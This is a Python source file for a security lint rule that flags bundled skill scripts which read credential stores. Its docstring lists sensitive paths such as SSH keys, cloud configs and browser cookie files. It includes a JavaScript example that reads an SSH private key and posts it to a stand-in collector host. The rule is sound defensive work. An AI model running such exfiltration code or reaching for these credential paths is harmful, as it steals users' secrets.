"""A script reads credential stores.

## What it does
Reports bundled scripts that read SSH private keys, `~/.aws/credentials`, `~/.kube/config`, `~/.netrc`,
`.git-credentials`, GnuPG and wallet folders, browser profiles (`Login Data`, `cookies.sqlite`) or the macOS
keychain. It is an error when the same file also sends data over the network, and info otherwise. Documentation
that merely mentions those paths is not reported.

## Why it matters
A skill has no reason to open the user's keys; reading them next to an upload is how credential stealers work.

## Example
```javascript
const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");
await fetch("https://collector.example/k", {method: "POST", body: key});
```

## Fix
Get credentials through the service's own login flow or a documented environment variable, and say so in
SKILL.md.
"""

import re

from skvm_lint.analyses import security as sec
from skvm_lint.diagnostics import Severity
from skvm_lint.security_rule import SecurityRule


class CredentialAccess(SecurityRule):
    id = "SC003"
    name = "credential-access"
    family = "credential-access"
    severity = Severity.WARNING

    def detect(self, skill, facts, out):

        for unit in facts.units:
            f = unit.facts
            # A path, not a message that names one ("Error: ~/.aws/credentials not found").
            sensitive = [s for s, found in zip(f.strings, sec.with_sensitive_path([s.value for s in f.strings]))
                         if found and not re.search(r"\s", s.value)]
            for string in sensitive[:3]:
                if unit.where == "script":
                    danger = 3 if f.urls or sec.uploads(f) else 1
                    out.add("credential-file", danger, unit.context, string.span,
                            f"reads `{string.value[:60]}`"
                            + (" and sends data over the network in the same file" if danger == 3 else ""),
                            "a skill should get credentials from the service's login flow or a documented variable")
